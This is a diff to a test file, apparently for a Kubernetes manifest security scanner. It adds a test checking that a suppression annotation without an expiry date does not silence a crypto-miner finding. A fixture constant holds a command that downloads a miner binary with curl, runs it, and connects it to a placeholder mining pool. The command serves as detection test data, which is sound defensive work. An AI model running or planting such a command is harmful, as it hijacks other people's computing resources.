@@ -38,6 +38,8 @@ ${annotations}spec:
 `;
 }
 
+/** A date the default horizon (366 days) admits. */
+const SOON = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
 const MINER_COMMAND = 'curl -sL https://example.com/xmrig -o /tmp/x && /tmp/x -o stratum+tcp://pool.example.com:3333';
 const IGNORE_ALL = (until?: string) =>
   `  annotations:\n    kfguard.io/ignore: "*"\n    kfguard.io/ignore-reason: "reviewed trainer"\n${until ? `    kfguard.io/ignore-until: "${until}"\n` : ''}`;
@@ -66,10 +68,19 @@ describe('suppression abuse', () => {
   });
 
   test('the annotated object itself is still silenced (the control)', async () => {
-    writeFileSync(join(dir.path, 'own.yaml'), `${deployment('trainer', IGNORE_ALL(), MINER_COMMAND)}---\n${deployment('trainer', '', 'python train.py')}`);
+    writeFileSync(join(dir.path, 'own.yaml'), `${deployment('trainer', IGNORE_ALL(SOON), MINER_COMMAND)}---\n${deployment('trainer', '', 'python train.py')}`);
     const found = miners(await scanJson(dir.path, ['own.yaml']));
     assert.equal(found.length, 1);
     assert.equal(found[0]?.suppression?.kind, 'inline');
+  });
+
+  test('an annotation without ignore-until never silences a critical threat, and says why', async () => {
+    writeFileSync(join(dir.path, 'forever.yaml'), deployment('trainer', IGNORE_ALL(), MINER_COMMAND));
+    const report = await scanJson(dir.path, ['forever.yaml']);
+    const found = miners(report);
+    assert.equal(found.length, 1);
+    assert.equal(found[0]?.suppression, undefined, 'a miner annotated without an end date was silenced for ever');
+    assert.ok(report.warnings.some((w) => /crypto-miner-workload .*not honoured: a critical threat finding is suppressed only with kfguard\.io\/ignore-until/.test(w)), report.warnings.join('\n'));
   });
 
   test('ignore-until past the horizon is not honoured, and says why', async () => {
